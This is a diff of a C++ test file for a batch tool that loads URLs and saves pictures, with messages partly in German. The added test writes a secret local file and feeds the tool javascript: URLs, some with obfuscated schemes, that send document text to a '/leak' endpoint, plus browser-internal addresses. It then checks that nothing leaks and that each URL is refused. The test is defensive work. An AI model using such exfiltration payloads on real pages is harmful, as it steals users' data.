@@ -18,6 +18,7 @@
 #include <QPushButton>
 #include <QRegularExpression>
 #include <QTest>
+#include <QUrl>
 
 namespace {
 
@@ -348,8 +349,6 @@ TEST_F(BadInputCli, PictureNamesTheFileSystemRefusesFailWithTheirReason) {
             << qPrintable(r.out);
     EXPECT_FALSE(QFileInfo::exists(dir.path() + QStringLiteral("/draussen.jpg")));
     EXPECT_FALSE(QFileInfo::exists(dir.path() + QStringLiteral("/absolut.jpg")));
-    EXPECT_EQ(RunBatchProcess({list, QStringLiteral("-o"), QString()}).exitCode, 1)
-        << "an empty folder is refused";
     // Control characters reach the terminal escaped; a picture name with them writes nothing.
     const QString control = r.LineFor(QStringLiteral("Bild\\x1b[2J\\x07"));
     EXPECT_TRUE(control.contains(QStringLiteral("/blue?\\x1b[31m -> ")) &&
@@ -372,11 +371,29 @@ TEST_F(BadInputCli, PictureNamesTheFileSystemRefusesFailWithTheirReason) {
 
 TEST_F(BadInputCli, UrlsThatAreNotUrlsEndTheirRowsAndTheRunGoesOn) {
     QList<QPair<QString, QString>> rows;
+    // A list that would send a local file away: the file's page, then scripts meant to run in it.
+    WriteBytes(dir.path() + QStringLiteral("/secret.txt"), "geheim");
+    const QString leak = server.Url(QStringLiteral("/leak?"));
+    rows.append({QUrl::fromLocalFile(dir.path() + QStringLiteral("/secret.txt")).toString(),
+                 QStringLiteral("secret")});
+    for (const QString& scheme :
+         {QStringLiteral("javascript:"), QStringLiteral(" JavaScript:"), QStringLiteral("java\tscript:")})
+        rows.append({scheme + QStringLiteral("void(new Image().src='%1'+document.body.innerText)").arg(leak),
+                     QStringLiteral("leak")});
+    for (const char* refused :
+         {"chrome://version", "view-source:http://127.0.0.1/", "devtools://devtools/", "blob:http://x/1"})
+        rows.append({QString::fromLatin1(refused), QStringLiteral("refused")});
     for (int i = 0; i < kBadUrls.size(); ++i) rows.append({kBadUrls[i], QStringLiteral("u%1").arg(i)});
     rows.append({server.Url(QStringLiteral("/blue")), QStringLiteral("good")});
     const BatchProcess r = RunBatchProcess(
         {WriteList(rows), QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QStringLiteral("5")});
     EXPECT_FALSE(r.crashed);
+    for (const LocalHttpServer::Request& request : server.Requests())
+        EXPECT_FALSE(request.path.startsWith("/leak"))
+            << "a local file reached a server: " << request.path.constData();
+    // The three scripts, the four browser addresses, and of the bad addresses the empty one, "nonsense" and
+    // "javascript:alert(1)".
+    EXPECT_EQ(r.out.count(QStringLiteral("wird nicht geladen")), 10) << qPrintable(r.out);
     for (int i = 0; i < kBadUrls.size(); ++i) {
         const QString line = r.LineFor(QStringLiteral("u%1").arg(i));
         SCOPED_TRACE(line.toStdString());
@@ -492,7 +509,7 @@ TEST_F(BadInputCli, ListsAndFoldersThatCannotBeUsedAreRefusedBeforeAnyBrowser) {
     const QList<Case> cases = {
         {{dir.path(), QStringLiteral("-o"), folder}, 1, QStringLiteral("kann nicht geöffnet werden")},
         {{garbage, QStringLiteral("-o"), folder}, 1, QStringLiteral("Keine Einträge vorhanden")},
-        {{list, QStringLiteral("-o"), QString()}, 1, QStringLiteral("cannot be made")},
+        {{list, QStringLiteral("-o"), QString()}, 1, QStringLiteral("Kein Speicherort angegeben")},
         {{list, QStringLiteral("-o"), list + QStringLiteral("/sub")}, 1, QStringLiteral("cannot be made")},
         {{list, QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QStringLiteral("0")},
          2,
